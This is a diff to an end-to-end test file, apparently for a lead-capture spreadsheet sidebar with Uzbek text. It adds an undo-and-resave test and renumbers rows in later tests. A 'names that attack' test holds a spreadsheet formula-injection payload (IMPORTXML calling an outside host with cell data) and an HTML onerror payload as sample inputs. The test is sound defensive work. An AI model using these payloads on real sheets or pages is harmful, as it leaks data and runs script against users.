@@ -101,6 +101,21 @@ describe('a newcomer', () => {
     expect([focused, await sidebar.locator('#lead-name').inputValue()]).toEqual([true, '']);
   });
 
+  it('takes a lead back with one tap, corrects it and saves it again', async () => {
+    await fill({ contact: '93 765 43 21', name: 'Jasurr' });
+    await save();
+
+    await sidebar.getByText('Ortga qaytarish').click();
+    await sidebar.getByText('Ortga qaytarildi.').waitFor();
+    await page.screenshot({ path: `${SCREENS}/3b-undone.png` });
+    const refilled = await sidebar.locator('#lead-name').inputValue();
+    const after = cell('Mijozlar', 3, 2);
+    await fill({ name: 'Jasur' });
+    await save();
+
+    expect([refilled, after, cell('Mijozlar', 3, 2), cell('Mijozlar', 3, 1)]).toEqual(['Jasurr', null, 'Jasur', 'M-3']);
+  });
+
   it('is warned about a phone that is already there, while typing it', async () => {
     await fill({ contact: '8 90 123-45-67' });
 
@@ -108,7 +123,7 @@ describe('a newcomer', () => {
     await page.screenshot({ path: `${SCREENS}/4-duplicate.png` });
 
     await fill({ contact: '' });
-    expect(cell('Mijozlar', 3, 2)).toBeNull();
+    expect(cell('Mijozlar', 4, 2)).toBeNull();
   });
 
   it('reads at the field what is wrong with it, and loses nothing', async () => {
@@ -119,7 +134,7 @@ describe('a newcomer', () => {
 
     expect(await sidebar.getByText('Summa notoʻgʻri: qimmat.').isVisible()).toBe(true);
     expect(await sidebar.locator('#lead-name').inputValue()).toBe('Sardor');
-    expect(cell('Mijozlar', 3, 2)).toBeNull();
+    expect(cell('Mijozlar', 4, 2)).toBeNull();
   });
 });
 
@@ -127,7 +142,7 @@ describe('names that attack', () => {
   const names = ['=IMPORTXML("http://x/?"&A1)', '<img src=x onerror=1>'];
 
   it.each(names)('%s ends up as harmless text', async (name) => {
-    const row = 3 + names.indexOf(name);
+    const row = 4 + names.indexOf(name);
     await fill({ contact: '', name, need: name, amount: '' });
 
     const confirmation = await save();
@@ -153,13 +168,13 @@ describe('two tabs of the browser', () => {
     await shows(second, 'Mijozlar');
     await shows(page, 'Mijozlar');
 
-    await typeInto(second, 'B6', 'Gulnora');
-    await until(() => cell('Mijozlar', 6, 1) === 'M-4');
-    const seen = await contentIn(page, 'B6');
+    await typeInto(second, 'B7', 'Gulnora');
+    await until(() => cell('Mijozlar', 7, 1) === 'M-6');
+    const seen = await contentIn(page, 'B7');
     await page.screenshot({ path: `${SCREENS}/7-second-tab.png` });
     await second.close();
 
-    expect([seen, cell('Mijozlar', 6, 2)]).toEqual(['Gulnora', 'Gulnora']);
+    expect([seen, cell('Mijozlar', 7, 2)]).toEqual(['Gulnora', 'Gulnora']);
   });
 });
 
